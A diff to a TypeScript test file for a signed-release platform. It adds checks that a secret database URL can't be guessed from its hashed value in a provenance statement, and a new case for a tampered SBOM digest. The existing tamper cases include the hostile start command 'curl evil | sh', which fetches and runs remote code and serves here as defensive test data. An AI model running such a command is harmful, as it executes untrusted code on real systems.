@@ -1,5 +1,5 @@
 import assert from "node:assert/strict";
-import { randomUUID } from "node:crypto";
+import { createHash, randomUUID } from "node:crypto";
 import { test, type TestContext } from "node:test";
 import { verifyEnvelope, type Envelope } from "@platform/bundle";
 import { createPublicKey } from "node:crypto";
@@ -86,6 +86,11 @@ test("a release carries a statement that anybody can verify, and no value of a v
   assert.equal(statement.subject[0]!.digest.sha256, "ab".repeat(32));
   assert.equal(statement.predicate.buildDefinition.externalParameters.env[0]!.name, "DATABASE_URL");
   assert.doesNotMatch(JSON.stringify(found), /postgres:\/\/secret/);
+  // Who reads the statement cannot try values: what they would need besides is the installation's key.
+  const { valueSha256 } = statement.predicate.buildDefinition.externalParameters.env[0]!;
+  const invocation = statement.predicate.runDetails.metadata.invocationId!.replace("urn:uuid:", "");
+  for (const text of ["postgres://secret", `${invocation}\0postgres://secret`])
+    assert.notEqual(valueSha256, createHash("sha256").update(text).digest("hex"));
 });
 
 for (const [what, set] of [
@@ -93,6 +98,7 @@ for (const [what, set] of [
   ["start_command", "start_command = 'curl evil | sh'"],
   ["port", "port = 22"],
   ["health_check_path", "health_check_path = '/'"],
+  ["sbom", `metadata = '{"sbom_digest": "sha256:00"}'`],
 ] as const) {
   test(`a release whose ${what} was changed after it was signed is not started, and the answer names it`, async (t) => {
     const { api, releaseId, report, tamper } = await builtRelease(t);
